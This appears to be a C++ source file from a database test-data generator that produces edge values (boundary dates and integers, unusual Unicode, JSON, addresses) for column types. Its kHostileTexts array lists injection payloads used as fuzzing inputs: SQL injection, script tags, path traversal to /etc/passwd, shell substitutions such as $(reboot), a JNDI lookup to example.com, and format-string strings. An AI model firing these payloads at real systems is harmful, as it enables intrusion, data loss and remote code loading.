// src/core/generate/edge_values.cpp -- the lists of edge values, and which of them a domain admits
#include "core/generate/edge_values.hpp"

#include "core/constraint/membership.hpp"
#include "core/schema/grid.hpp"

#include <algorithm>
#include <cmath>
#include <limits>

namespace datagen::core {
namespace {

constexpr int64_t kDay = int64_t{86400} * 1000000;

/// Days since 2000-01-01: leap days (1960, 2000, 2024), the days around those that 1900 and 2100 do not have, the epoch
/// and the day before, the turn of the century, the last day of a signed 32-bit clock.
constexpr int64_t kEdgeDays[] = {59,    8825,   -14551, -36466, -36465, 36583,
                                 36584, -10957, -10958, -1,     0,      13898};
/// Microseconds after midnight that go with a day.
constexpr int64_t kEdgeTimes[] = {0, kDay - 1000000, kDay - 1};
/// 03:14:07 of 2038-01-19, the end of that clock.
constexpr int64_t kClockEnd = 13898 * kDay + int64_t{3 * 3600 + 14 * 60 + 7} * 1000000;

/// Integers beside which a narrower type, or a double, ends.
constexpr int64_t kEdgeIntegers[] = {INT8_MIN,         INT8_MAX,
                                     UINT8_MAX,        INT16_MIN,
                                     INT16_MAX,        UINT16_MAX,
                                     INT32_MIN,        INT32_MAX,
                                     UINT32_MAX,       UINT32_MAX + int64_t{1},
                                     int64_t{1} << 53, (int64_t{1} << 53) + 1};

/// Combining marks, right-to-left scripts and marks, characters of several code points or of zero width, letters whose
/// case changes their number, the last code point.
const char* const kUnicodeTexts[] = {
    u8"e\u0301",
    u8"Z\u0351\u036B\u0343a\u0329\u033B\u0348lg\u0321\u034Do",
    u8"\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    u8"\u05E9\u05DC\u05D5\u05DD",
    u8"a\u202Eb\u202Cc",
    u8"\u200Bzero\u200Dwidth\uFEFF",
    u8"\u0130stanbul Stra\u00DFe \uFB03",
    u8"\U0001F468\u200D\U0001F469\u200D\U0001F467",
    u8"\U0001F600",
    u8"\u4E2D\u6587",
    u8"\uFF21\uFF11",
    u8"\u00A0",
    u8"\U0010FFFD",
};

/// What injects into SQL, HTML, shells, paths, formats, templates and spreadsheets, and words that programs misread.
const char* const kHostileTexts[] = {
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "\\",
    "'",
    "%",
    "%s%n%x",
    "_",
    "<script>alert(1)</script>",
    "&lt;",
    "../../etc/passwd",
    "$(reboot)",
    "`id`",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "=1+1",
    "a,b;c\td",
    "line\nbreak\r\n",
    " leading and trailing ",
    "NULL",
    "null",
    "undefined",
    "true",
    "NaN",
    "0",
    "-1",
    "1e309",
    "\x01\x7F",
};

const char* const kJsonTexts[] = {"{}", "[]", "null", "\"\"", "0", "{\"\": null}", "[[[[[[[[]]]]]]]]"};
const char* const kAddressTexts[] = {"0.0.0.0", "255.255.255.255", "127.0.0.1", "::", "::1"};

std::string repeated(std::string_view text, int64_t times) {
  std::string all;
  for (int64_t i = 0; i < times; ++i) all += text;
  return all;
}

}  // namespace

EdgeValues::EdgeValues(const Request& request) : request_(request) {
  const Domain& domain = *request_.domain;
  if (domain.impossible || domain.null == NullStatus::Must) return;
  const TypeClass type_class = request_.type->type_class;
  if (type_class == TypeClass::Boolean) return;  // both values are ordinary
  if (domain.values) {
    add_members();
  } else if (type_class == TypeClass::Text) {
    add_limits_and_lengths();
    add_listed_texts();
    if (domain.text.shaped()) add_listing_ends();
  } else if (value_kind(*request_.type) == ValueKind::Tick) {
    add_ticks();
  }
  if (!domain.values && request_.unconditional && !domain.narrowed) add_unconditional();
}

std::vector<Value> EdgeValues::all() const {
  std::vector<Value> all;
  for (const auto& kind : kinds_) all.insert(all.end(), kind.begin(), kind.end());
  return all;
}

Value EdgeValues::draw(Stream& stream, Arena& arena) const {
  const auto& kind = kinds_[stream.below(kinds_.size())];
  const Value& value = kind[stream.below(kind.size())];
  if (value.kind == ValueKind::Text) return Value::of_text(arena.store(value.text()));
  if (value.kind == ValueKind::Bytes) return Value::of_bytes(arena.store(value.text()));
  if (value.kind != ValueKind::List) return value;
  auto* items = arena.array<Value>(std::max<uint32_t>(value.size, 1));
  std::copy(value.items, value.items + value.size, items);
  return Value::of_list(items, value.size, value.flags);
}

/// Values that are there already, in this kind or another, are left out.
void EdgeValues::add_kind(const std::vector<Value>& values) {
  std::vector<Value> fresh;
  const std::vector<Value> known = all();
  for (const Value& value : values) {
    const auto same = [&](const Value& other) { return same_value(other, value); };
    if (std::none_of(known.begin(), known.end(), same) && std::none_of(fresh.begin(), fresh.end(), same))
      fresh.push_back(value);
  }
  if (!fresh.empty()) kinds_.push_back(std::move(fresh));
}

Value EdgeValues::text_of(std::string_view text) { return Value::of_text(arena_.store(text)); }

/// Of a list: its least and greatest ticks, its shortest and longest texts.
void EdgeValues::add_members() {
  std::vector<Value> members = *request_.domain->values;
  const ValueKind kind = value_kind(*request_.type);
  const auto other = [&](const Value& member) { return member.kind != kind; };
  members.erase(std::remove_if(members.begin(), members.end(), other), members.end());
  if (members.empty() || (kind != ValueKind::Tick && kind != ValueKind::Text)) return;
  const auto less = [&](const Value& a, const Value& b) {
    if (kind == ValueKind::Tick) return a.tick < b.tick;
    return a.size != b.size ? a.size < b.size : a.text() < b.text();
  };
  const auto ends = std::minmax_element(members.begin(), members.end(), less);
  std::vector<Value> both;
  for (const Value& end : {*ends.first, *ends.second})
    both.push_back(kind == ValueKind::Text ? text_of(end.text()) : end);
  add_kind(both);
}

bool EdgeValues::admits_tick(int64_t tick) const {
  const Type& type = *request_.type;
  return tick >= type.min_tick && tick <= type.max_tick && tick % std::max<int64_t>(type.tick_step, 1) == 0 &&
         request_.domain->ticks.contains(tick);
}

void EdgeValues::add_ticks() {
  const Type& type = *request_.type;
  const TickSet& ticks = request_.domain->ticks;
  if (ticks.empty()) return;
  const auto add = [&](const std::vector<int64_t>& candidates) {
    std::vector<Value> values;
    for (int64_t tick : candidates)
      if (admits_tick(tick)) values.push_back(Value::of_tick(tick));
    add_kind(values);
  };
  // A coarser precision than the grid's moves the ends inward.
  const int64_t step = std::max<int64_t>(type.tick_step, 1);
  int64_t least = std::max(ticks.lowest(), type.min_tick);
  int64_t greatest = std::min(ticks.highest(), type.max_tick);
  if (least % step != 0) least += least < 0 ? -(least % step) : step - least % step;
  if (greatest % step != 0) greatest -= greatest < 0 ? step + greatest % step : greatest % step;
  add({least, greatest});
  switch (type.type_class) {
    case TypeClass::Date: add({std::begin(kEdgeDays), std::end(kEdgeDays)}); break;
    case TypeClass::Timestamp:
    case TypeClass::TimestampTz: {
      std::vector<int64_t> moments{kClockEnd, kClockEnd + 1000000};
      for (int64_t day : kEdgeDays)
        for (int64_t time : kEdgeTimes) moments.push_back(day * kDay + time);
      add(moments);
      break;
    }
    case TypeClass::Time:
    case TypeClass::TimeTz: add({std::begin(kEdgeTimes), std::end(kEdgeTimes)}); break;
    case TypeClass::Interval: add({0, 1, -1}); break;
    case TypeClass::Integer:
      add({0, 1, -1});
      add({std::begin(kEdgeIntegers), std::end(kEdgeIntegers)});
      break;
    case TypeClass::Numeric:
    case TypeClass::Float:
    case TypeClass::Money: {
      const int64_t one = clamped_power_of_ten(type.scale);
      add({0, 1, -1, one, -one});
      break;
    }
    default: break;
  }
}

bool EdgeValues::admits_as_text(std::string_view text) const {
  const Type& type = *request_.type;
  const TextSet& set = request_.domain->text;
  const bool ascii = std::all_of(text.begin(), text.end(), [](char c) { return (c & 0x80) == 0; });
  // The case of other letters is the collation's affair, which the domain does not know.
  if (!ascii && (request_.ascii_only || set.lower_case || set.upper_case)) return false;
  if (set.mirrored && text.size() > 1) return false;
  if (type.max_length >= 0 && character_count(text) > type.max_length) return false;
  if (type.name == "name" && static_cast<int64_t>(text.size()) > type.max_length) return false;
  // Blanks at the end are no part of a character(n).
  if (type.name == "bpchar" && !text.empty() && text.back() == ' ') return false;
  return admits_text(set, text);
}

void EdgeValues::add_texts(const std::vector<std::string>& texts) {
  std::vector<Value> values;
  for (const std::string& text : texts)
    if (admits_as_text(text)) values.push_back(text_of(text));
  add_kind(values);
}

void EdgeValues::add_limits_and_lengths() {
  const Type& type = *request_.type;
  const TextSet& set = request_.domain->text;
  int64_t longest = std::min({kLongestEdgeText, set.max_length, set.max_bytes});
  if (type.max_length >= 0) longest = std::min<int64_t>(longest, type.max_length);
  add_texts({""});
  const char* const letter = set.lower_case || type.name == "citext" ? "w" : "W";
  // Four bytes a character are the most that a length in characters can stand for.
  add_texts({repeated(letter, longest), repeated(u8"\U0001F600", longest)});
  if (set.min_length > 0 && set.min_length < longest) add_texts({repeated(letter, set.min_length)});
}

void EdgeValues::add_listed_texts() {
  add_texts({std::begin(kUnicodeTexts), std::end(kUnicodeTexts)});
  add_texts({std::begin(kHostileTexts), std::end(kHostileTexts)});
}

/// The first and last texts of a pattern's listing, where the domain's own ends are not known otherwise.
void EdgeValues::add_listing_ends() {
  const Generator* generator = request_.generator;
  const uint64_t size = generator ? generator->size() : 0;
  if (size == 0) return;
  std::vector<std::string> ends;
  Arena scratch;
  for (uint64_t index : {uint64_t{0}, size - 1}) {
    const Value value = generator->unrank(index, scratch);
    if (value.kind == ValueKind::Text) ends.emplace_back(value.text());
  }
  add_texts(ends);
}

/// Values that no domain describes, for columns which nothing restricts.
void EdgeValues::add_unconditional() {
  const Type& type = *request_.type;
  const auto texts = [&](auto begin, auto end) {
    std::vector<Value> values;
    for (auto text = begin; text != end; ++text) values.push_back(text_of(*text));
    add_kind(values);
  };
  const auto bytes = [&](std::initializer_list<std::string_view> contents) {
    std::vector<Value> values;
    for (std::string_view content : contents) values.push_back(Value::of_bytes(arena_.store(content)));
    add_kind(values);
  };
  switch (type.type_class) {
    case TypeClass::Date: add_kind({Value::of_tick(INT32_MIN), Value::of_tick(INT32_MAX)}); break;
    case TypeClass::Timestamp:
    case TypeClass::TimestampTz: add_kind({Value::of_tick(INT64_MIN), Value::of_tick(INT64_MAX)}); break;
    case TypeClass::Float: {
      const double infinity = std::numeric_limits<double>::infinity();
      add_kind({Value::of_real(infinity), Value::of_real(-infinity), Value::of_real(std::nan(""))});
      break;
    }
    case TypeClass::Numeric: {
      const char* const beyond[] = {"Infinity", "-Infinity", "NaN"};
      if (type.typmod < 0) texts(std::begin(beyond), std::end(beyond));
      break;
    }
    case TypeClass::Bytea: bytes({"", std::string_view("\0", 1), "\xFF", "\\x"}); break;
    case TypeClass::Uuid: bytes({std::string(16, '\0'), std::string(16, '\xFF')}); break;
    case TypeClass::Json:
    case TypeClass::Jsonb: texts(std::begin(kJsonTexts), std::end(kJsonTexts)); break;
    case TypeClass::Literal:
      if (type.name == "inet" || type.name == "cidr")
        texts(std::begin(kAddressTexts), std::end(kAddressTexts));
      break;
    case TypeClass::Array:
      if (type.dimensions <= 1) add_kind({Value::of_list(nullptr, 0)});
      break;
    case TypeClass::Range: {
      auto* ends = arena_.array<Value>(2);
      ends[0] = ends[1] = Value::null();
      add_kind({Value::of_list(ends, 2, kEmptyRange), Value::of_list(ends, 2)});
      break;
    }
    default: break;
  }
}

}  // namespace datagen::core
